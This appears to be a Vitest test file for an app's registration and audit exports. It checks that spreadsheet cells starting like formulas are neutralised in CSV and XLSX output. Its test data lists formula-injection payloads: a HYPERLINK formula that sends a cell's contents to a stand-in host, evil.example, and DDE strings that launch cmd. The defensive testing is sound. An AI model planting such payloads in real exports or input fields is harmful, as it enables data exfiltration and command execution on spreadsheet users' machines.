import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { generateDemo } from '../../../seeds/demo-campaign.js';
import { neutraliseCell } from '../../shared/domain/spreadsheet-cell.js';
import { nextVersion } from '../db/next-version.js';
import type { Engine } from '../db/store.js';
import { postgresAvailable } from '../db/test-postgres.js';
import { transact } from '../db/transact.js';
import { upsertRows } from '../import/upsert-rows.js';
import type { TestServer } from '../testing/test-server.js';
import { DEMO_DAY, startTestServer } from '../testing/test-server.js';

const engines: Engine[] = [
  'sqlite',
  ...((await postgresAvailable()) ? (['postgres'] as const) : []),
];

const CAMPAIGN = 'camp-tongye-1';
const VILLAGE = 'site-tongye-village';
/** Names a hostile roster or a careless volunteer could enter: each would start a formula. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
];
const FORMULA_START = /^[=+\-@\t\r]/;

describe.each(engines)('exports neutralise formula-like cells on %s', (engine) => {
  let server: TestServer;
  let coordinator: string;

  beforeAll(async () => {
    server = await startTestServer(engine);
    coordinator = (await server.login('13800000001')).token;
    const volunteer = await server.login('13800000003');
    const template = generateDemo(DEMO_DAY).residents.find((r) => r.siteId === VILLAGE)!;
    await transact(server.store, async (trx) => {
      const version = await nextVersion(trx);
      await upsertRows(
        trx,
        'residents',
        HOSTILE.map((name, i) => ({ ...template, id: `formula-${i}`, name })),
        version,
      );
      await upsertRows(
        trx,
        'registrations',
        HOSTILE.map((_, i) => ({
          id: `formula-reg-${i}`,
          campaignId: CAMPAIGN,
          siteId: VILLAGE,
          residentId: `formula-${i}`,
          lane: 'Z',
          seq: i + 1,
          queueNumber: `Z${i + 1}`,
          status: 'registered' as const,
          createdAt: '2022-01-06T10:00:00+08:00',
          createdBy: volunteer.user.id,
        })),
        version,
      );
    });
  });
  afterAll(async () => {
    await server.close();
  });

  const get = (url: string) =>
    server.app.inject({ method: 'GET', url, headers: { authorization: `Bearer ${coordinator}` } });

  function expectNeutral(cells: string[]): void {
    // XLSX stores a carriage return as an escape that exceljs reads back its own way.
    for (const name of HOSTILE.filter((n) => !n.startsWith('\r'))) {
      expect(cells).toContain(`'${name}`);
    }
    for (const cell of cells) expect(cell, JSON.stringify(cell)).not.toMatch(FORMULA_START);
  }

  it('in the registrations CSV, parsed back', async () => {
    const res = await get(`/api/export/registrations?campaignId=${CAMPAIGN}&format=csv`);
    expect(res.statusCode).toBe(200);
    const rows = Papa.parse<string[]>(res.body.replace(/^\uFEFF/, ''), {
      skipEmptyLines: true,
    }).data;
    expect(rows.length).toBeGreaterThan(HOSTILE.length);
    expectNeutral(rows.flat());
  });

  it('in the registrations XLSX, opened with exceljs: plain text cells, no formulas', async () => {
    const res = await get(`/api/export/registrations?campaignId=${CAMPAIGN}&format=xlsx`);
    expect(res.statusCode).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const cells: string[] = [];
    workbook.worksheets[0]!.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string') cells.push(cell.value);
      }),
    );
    expectNeutral(cells);
  });

  it('in the audit CSV and XLSX', async () => {
    // An admin action whose details carry a hostile name: a new account.
    const created = await server.app.inject({
      method: 'POST',
      url: '/api/admin/users',
      headers: { authorization: `Bearer ${coordinator}` },
      payload: {
        name: '=1+2',
        phone: '13700000001',
        role: 'volunteer',
        teamId: null,
        password: 'long-enough-1',
      },
    });
    expect(created.statusCode).toBe(200);
    const csv = await get('/api/export/audit?format=csv');
    expect(csv.statusCode).toBe(200);
    const rows = Papa.parse<string[]>(csv.body.replace(/^\uFEFF/, ''), {
      skipEmptyLines: true,
    }).data;
    for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA_START);
    const xlsx = await get('/api/export/audit?format=xlsx');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    workbook.worksheets[0]!.eachRow((row) =>
      row.eachCell((cell) => {
        if (typeof cell.value === 'string') expect(cell.value).not.toMatch(FORMULA_START);
      }),
    );
  });
});

describe('neutraliseCell', () => {
  it('prefixes text that starts like a formula and leaves the rest, numbers included', () => {
    expect(neutraliseCell('=1+1')).toBe("'=1+1");
    expect(neutraliseCell('\r1')).toBe("'\r1");
    expect(neutraliseCell('张三')).toBe('张三');
    expect(neutraliseCell('a=1')).toBe('a=1');
    expect(neutraliseCell(-5)).toBe(-5);
    expect(neutraliseCell(null)).toBeNull();
  });
});
